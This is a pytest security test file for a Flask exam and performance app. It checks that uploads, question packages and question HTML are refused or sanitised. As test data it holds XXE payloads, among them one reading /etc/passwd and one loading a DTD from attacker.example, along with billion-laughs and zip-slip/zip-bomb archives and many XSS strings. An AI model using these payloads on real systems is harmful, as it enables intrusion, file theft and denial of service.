"""Hostile input is refused with a clear error and nothing written: evidence uploads (type by
content, size, names never paths), question packages (XML bombs, external entities, deep
nesting, zip slip, zip bombs) through the import service and the CLI, and question HTML
(no script, no event handler, no ``javascript:`` link survives; images are kept)."""
import io
import zipfile
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import func, select

from extensions import db
from performance import services as perf
from performance.models import EvidenceFile, ProductReport, Task
from flask_babel import force_locale

from question_bank.formats import parse
from question_bank.formats.text import sanitise, to_html
from question_bank.models import Question
from question_bank.services import import_file
from tests import factories

PDF = b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32


@pytest.fixture
def task(app):
    agency = factories.agency("A")
    boss = factories.user("boss", agency, roles=[("supervisor", agency)], leader=True)
    person = factories.user("cv.a", agency)
    task = Task(year=2026, period="2026-Q1", assigner_id=boss.id, assignee_id=person.id, title="T", target=1,
                deadline=date(2026, 3, 25))
    db.session.add(task)
    db.session.commit()
    return task


def _stored(app) -> list[Path]:
    root = Path(app.config["STORAGE_DIR"])
    return sorted(p for p in root.rglob("*") if p.is_file()) if root.exists() else []


# ---- evidence files ------------------------------------------------------------------------

@pytest.mark.parametrize("name, data", [
    ("report.pdf", b"<html><script>alert(1)</script></html>"),          # HTML named .pdf
    ("photo.png", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 60),         # a Windows program
    ("drawing.jpg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("empty.pdf", b""),
])
def test_evidence_of_the_wrong_type_is_refused_and_nothing_is_written(app, task, name, data):
    report = ProductReport(task=task, actual_value=1, product="x", delivered_on=date(2026, 3, 1))
    with pytest.raises(perf.EvidenceError, match="type"):
        perf.store_evidence(report, name, data)
    assert _stored(app) == [] and report.evidence == []


def test_evidence_over_the_size_limit_is_refused_before_anything_is_written(app, task):
    app.config["EVIDENCE_MAX_BYTES"] = 1000
    report = ProductReport(task=task, actual_value=1, product="x", delivered_on=date(2026, 3, 1))
    with pytest.raises(perf.EvidenceError, match="size"):
        perf.store_evidence(report, "big.pdf", PDF + b"0" * 1000)
    assert _stored(app) == []
    perf.store_evidence(report, "ok.pdf", PDF)  # at the limit and below: accepted
    assert len(_stored(app)) == 1


def test_an_evidence_name_is_never_used_as_a_path(app, task):
    report = ProductReport(task=task, actual_value=1, product="x", delivered_on=date(2026, 3, 1))
    item = perf.store_evidence(report, "../../../etc/cron.d/evil.pdf", PDF)
    stored = _stored(app)
    import hashlib

    assert [p.name for p in stored] == [hashlib.sha256(PDF).hexdigest()]
    assert stored[0].parent == Path(app.config["STORAGE_DIR"]) / "evidence"
    assert item.original_name == "evil.pdf" and item.mime == "application/pdf"


def _login_en(client, username="cv.a"):
    client.post("/lang/en")
    client.post("/login", data={"username": username, "password": factories.PASSWORD})


def test_an_upload_through_the_page_is_checked_and_served_as_an_attachment(app, client, task):
    _login_en(client)
    form = {"actual_value": "1", "product": "Báo cáo", "delivered_on": "2026-03-20"}
    bad = client.post(f"/tasks/{task.id}/report", data={**form, "evidence": (io.BytesIO(b"<script>x</script>"),
                                                                                "bao-cao.pdf")},
                      content_type="multipart/form-data")
    assert bad.status_code == 200 and "Only PDF, PNG, JPEG" in bad.get_data(as_text=True)
    assert db.session.scalar(select(func.count()).select_from(EvidenceFile)) == 0 and _stored(app) == []
    good = client.post(f"/tasks/{task.id}/report", data={**form, "evidence": (io.BytesIO(PDF), "bao cáo.pdf")},
                       content_type="multipart/form-data")
    assert good.status_code == 302
    item = db.session.scalars(select(EvidenceFile)).one()
    served = client.get(f"/tasks/evidence/{item.id}")
    assert served.status_code == 200 and served.data == PDF
    assert served.headers["Content-Disposition"].startswith("attachment;")
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.mimetype == "application/pdf"
    served.close()


def test_a_request_over_the_body_limit_gets_413(app, client, task):
    app.config["MAX_CONTENT_LENGTH"] = 10_000
    _login_en(client)
    response = client.post(f"/tasks/{task.id}/report", data={"evidence": (io.BytesIO(b"%PDF-" + b"0" * 20_000),
                                                                          "x.pdf")},
                           content_type="multipart/form-data")
    assert response.status_code == 413 and _stored(app) == []


# ---- question packages ---------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<quiz><question type="truefalse"><name><text>&lol9;</text></name>
<questiontext format="html"><text>&lol9;</text></questiontext>
<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer>
</question></quiz>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="truefalse"><name><text>&xxe;</text></name>
<questiontext format="html"><text>&xxe;</text></questiontext>
<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer>
</question></quiz>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<quiz><question type="truefalse"><name><text>x</text></name>
<questiontext format="html"><text>x</text></questiontext>
<answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer>
</question></quiz>"""


TRUE_FALSE = (b'<question type="truefalse"><name><text>x</text></name><questiontext format="html"><text>x'
              b'</text></questiontext><answer fraction="100"><text>true</text></answer><answer fraction="0">'
              b'<text>false</text></answer></question>')


def _deep_xml(depth: int) -> bytes:
    return b'<?xml version="1.0"?><quiz>' + TRUE_FALSE + b"<x>" * depth + b"</x>" * depth + b"</quiz>"


def _zip(members: dict[str, bytes], compress=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


MANIFEST = b"""<?xml version="1.0"?><manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"><resources>
<resource identifier="r1" type="imsqti_item_xmlv2p1" href="item.xml"><file href="item.xml"/></resource>
</resources></manifest>"""
ITEM = b"""<?xml version="1.0"?><assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1"
 identifier="i1" title="T" adaptive="false" timeDependent="false"><responseDeclaration identifier="RESPONSE"
 cardinality="single" baseType="identifier"><correctResponse><value>A</value></correctResponse>
 </responseDeclaration><itemBody><choiceInteraction responseIdentifier="RESPONSE" maxChoices="1">
 <prompt>Q?</prompt><simpleChoice identifier="A">a</simpleChoice><simpleChoice identifier="B">b</simpleChoice>
 </choiceInteraction></itemBody></assessmentItem>"""

HOSTILE = {
    "billion laughs": ("bomb.xml", BILLION_LAUGHS, "declares entities or external references"),
    "external entity": ("xxe.xml", EXTERNAL_ENTITY, "declares entities or external references"),
    "parameter entity": ("pe.xml", PARAMETER_ENTITY, "declares entities or external references"),
    "zip slip": ("package.zip", _zip({"imsmanifest.xml": MANIFEST, "item.xml": ITEM,
                                      "../../outside.txt": b"pwned"}), "zip slip"),
    "zip slip (absolute)": ("package.zip", _zip({"imsmanifest.xml": MANIFEST, "/etc/evil.xml": ITEM}), "zip slip"),
    "zip bomb": ("package.zip", _zip({"imsmanifest.xml": MANIFEST, "item.xml": ITEM,
                                      "zeros.bin": b"\0" * (12 * 2**20)}), "zip bomb"),
    "xlsx bomb": ("bank.xlsx", _zip({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml":
                                     b" " * (12 * 2**20)}), "zip bomb"),
}


@pytest.fixture
def bank(app):
    bank = factories.bank(factories.agency("A"), [], code="BANK")
    db.session.commit()
    return bank


@pytest.mark.parametrize("case", list(HOSTILE), ids=lambda c: c.replace(" ", "-"))
def test_hostile_packages_are_refused_by_the_import_service(app, bank, case, tmp_path, monkeypatch):
    name, data, message = HOSTILE[case]
    monkeypatch.chdir(tmp_path)  # a zip slip would land beside the working directory
    with force_locale("en"):
        report = import_file(bank, data, name)
    db.session.rollback()
    assert not report.written and report.imported == 0
    assert any(message in e["message"] for e in report.errors), report.errors
    assert db.session.scalar(select(func.count()).select_from(Question)) == 0
    assert not (tmp_path.parent / "outside.txt").exists() and list(tmp_path.iterdir()) == []
    assert not Path("/etc/evil.xml").exists()


@pytest.mark.parametrize("case", ["billion laughs", "zip slip", "zip bomb"], ids=lambda c: c.replace(" ", "-"))
def test_hostile_packages_are_refused_by_the_cli(app, runner, bank, case, tmp_path):
    name, data, message = HOSTILE[case]
    path = tmp_path / name
    path.write_bytes(data)
    app.config["BABEL_DEFAULT_LOCALE"] = "en"
    result = runner.invoke(args=["questions", "import", str(path), "--bank", "BANK"])
    assert result.exit_code == 1
    assert message in result.output and "NOT imported" in result.output
    assert db.session.scalar(select(func.count()).select_from(Question)) == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]


def test_the_sound_package_is_imported(app, bank):
    """The same package without the hostile member imports: the refusals above are specific."""
    report = import_file(bank, _zip({"imsmanifest.xml": MANIFEST, "item.xml": ITEM}), "package.zip")
    assert report.written and report.imported == 1


def test_an_external_dtd_is_never_read(app, bank, tmp_path):
    """A DTD on disk that would define ``&e;`` is not loaded: the entity stays undefined and the
    file is refused as not well-formed; its content appears nowhere."""
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY e "PWNED-FROM-DISK">')
    data = (f'<?xml version="1.0"?><!DOCTYPE quiz SYSTEM "{dtd.as_uri()}"><quiz>'.encode()
            + TRUE_FALSE.replace(b"<text>x</text></questiontext>", b"<text>&e;</text></questiontext>")
            + b"</quiz>")
    with force_locale("en"):
        report = import_file(bank, data, "dtd.xml")
    assert not report.written
    assert any("The XML is not well-formed: undefined entity" in e["message"] for e in report.errors)
    assert "PWNED" not in str(report.as_json())


def test_deeply_nested_xml_is_refused(app, bank):
    """Nesting past xmlsafe.MAX_DEPTH (200) is refused where it happens: the report names the
    file and the line (the whole document is on line 1 here)."""
    with force_locale("en"):
        report = import_file(bank, _deep_xml(100_000), "deep.xml")
        assert not report.written and report.file == "deep.xml"
        assert report.errors == [{"line": 1, "question": None, "message": (
            "The XML is nested more than 200 elements deep (line 1); no question file needs that, so the file "
            "was refused.")}]
        deep = b'<?xml version="1.0"?>\n<quiz>\n' + TRUE_FALSE + b"\n" + b"<x>\n" * 250 + b"</x>" * 250 + b"</quiz>"
        result = parse(deep, "deep2.xml")
    assert [issue.line for issue in result.errors] == [4 + 199]       # <quiz> is depth 1, line 2
    assert result.report()[0].startswith("deep2.xml, line 203: The XML is nested more than 200 elements deep")
    shallow = b'<?xml version="1.0"?><quiz>' + TRUE_FALSE + b"<x>" * 150 + b"</x>" * 150 + b"</quiz>"
    assert not parse(shallow, "ok.xml").errors


def test_deeply_nested_xml_never_crashes_the_import(app, bank):
    """Whatever the depth, the import answers with a report (no RecursionError, no 500)."""
    with force_locale("en"):
        report = import_file(bank, _deep_xml(100_000), "deep.xml")
    db.session.rollback()
    assert report.format == "moodle_xml"


# ---- question text -------------------------------------------------------------------------

HOSTILE_HTML = [
    '<p>Câu hỏi<script>alert(1)</script></p>',
    '<p onclick="alert(1)">Câu hỏi</p>',
    '<img src="x.png" onerror="alert(1)">',
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload="alert(1)"><circle/></svg>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<p><style>body{display:none}</style>x</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
]


@pytest.mark.parametrize("html", HOSTILE_HTML)
def test_nothing_executable_survives_sanitising(html):
    clean = sanitise(html).lower()
    for bad in ("<script", "onerror", "onclick", "onload", "javascript:", "<iframe", "<svg", "<form",
                "<object", "<embed", "data:text", "<style", "<meta", "<base", "url("):
        assert bad not in clean, (html, clean)
    assert sanitise(clean) == clean  # idempotent: import → export → import is stable


def test_images_and_formatting_are_kept():
    html = ('<p><strong>Điều 4</strong> <em>Luật</em>: <img src="@@PLUGINFILE@@/so-do.png" alt="Sơ đồ" width="200">'
            ' <img src="data:image/png;base64,iVBORw0KGgo="> <a href="https://thuvienphapluat.vn/">nguồn</a></p>')
    clean = sanitise(html)
    assert '<img src="@@PLUGINFILE@@/so-do.png" alt="Sơ đồ" width="200">' in clean
    assert '<img src="data:image/png;base64,iVBORw0KGgo=">' in clean
    assert "<strong>Điều 4</strong>" in clean and "<em>Luật</em>" in clean
    assert 'href="https://thuvienphapluat.vn/"' in clean


@pytest.mark.parametrize("fmt", ["html", "moodle", "markdown", "plain"])
def test_every_text_format_is_sanitised(fmt):
    import re

    out = to_html('Hi <script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)>', fmt)
    assert "<script" not in out and 'href="javascript' not in out.lower()
    assert not re.search(r"<[a-z][^>]*\son[a-z]+=", out, re.I)  # no tag keeps an event handler


GIFT_HOSTILE = ('::Q1::[html]<p onmouseover\\="alert(1)">Đâu là đúng?</p><script>alert(1)</script>'
                '<img src\\="@@PLUGINFILE@@/a.png" onerror\\="alert(2)"> <a href\\="javascript:alert(3)">x</a>'
                ' {=Đúng ~Sai}\n')


def test_the_exam_page_renders_imported_text_safely(app, client):
    """A question imported with hostile HTML reaches the exam page with its image and none of
    the script, handler or link."""
    agency = factories.agency("A")
    factories.user("cv.a", agency)
    bank = factories.bank(agency, [], code="BANK")
    report = import_file(bank, GIFT_HOSTILE.encode(), "hostile.gift")
    assert report.written, report.errors
    from question_bank.models import QuestionStatus

    for question in db.session.scalars(select(Question)):
        question.status = QuestionStatus.APPROVED  # imports land as drafts (DECISIONS 15)
    from question_bank.models import Category

    category = db.session.scalars(select(Category).where(Category.bank_id == bank.id)).first()
    exam = factories.exam(bank, agency, [(category, 1, 1)])
    db.session.commit()
    _login_en(client)
    page = client.get(client.post(f"/exam/{exam.id}/start").headers["Location"]).get_data(as_text=True)
    main = page[page.index('<main'):page.index('</main>')]
    assert "Đâu là đúng?" in main
    assert "/bank/file/" in main and "a.png" in main  # the image is kept, served by the app
    for bad in ("alert(1)", "alert(2)", "alert(3)", "onmouseover", "onerror", "javascript:"):
        assert bad not in main, bad
    assert "<script" not in main


def test_parse_reports_every_hostile_xml_without_raising():
    for name, data, _message in list(HOSTILE.values())[:4]:
        result = parse(data, name)
        assert result.errors and not result.questions


def test_a_deeply_nested_json_save_is_a_bad_request(app, client):
    """``[[[[…]]]]`` 100,000 deep in an autosave: refused as malformed (400), not a crash."""
    from question_bank.models import Category
    from tests.security.helpers import login_as

    agency = factories.agency("A")
    user = factories.user("cv.a", agency)
    bank = factories.bank(agency, [factories.mc("Q0")])
    exam = factories.exam(bank, agency, [(db.session.scalars(select(Category)).first(), 1, 1)])
    db.session.commit()
    login_as(client, user)
    attempt_url = client.post(f"/exam/{exam.id}/start").headers["Location"]
    body = '{"position": 1, "seq": 1, "token": "x", "response": ' + "[" * 100_000 + "]" * 100_000 + "}"
    response = client.post(attempt_url + "/save", data=body, content_type="application/json")
    assert response.status_code == 400
